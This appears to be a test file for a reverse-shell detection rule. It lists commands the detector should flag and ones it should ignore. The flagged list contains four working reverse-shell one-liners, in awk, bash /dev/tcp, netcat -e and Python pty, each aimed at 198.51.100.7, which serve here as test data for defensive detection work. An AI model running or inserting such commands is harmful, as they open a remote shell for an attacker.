import { rule } from './reverse-shell.ts';
import { describeRule } from '../../rule-examples.ts';

describeRule(rule, {
  fires: [
    `awk 'BEGIN{s="/inet/tcp/0/198.51.100.7/443";while(1){"sh" |& getline l; print l |& s}}'`,
    'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
    'nc -e /bin/sh 198.51.100.7 4444',
    "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.7\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
  ],
  quiet: [
    'nc -z 198.51.100.7 80',
    'bash -i',
    'ssh dev@a.example.net',
  ],
});
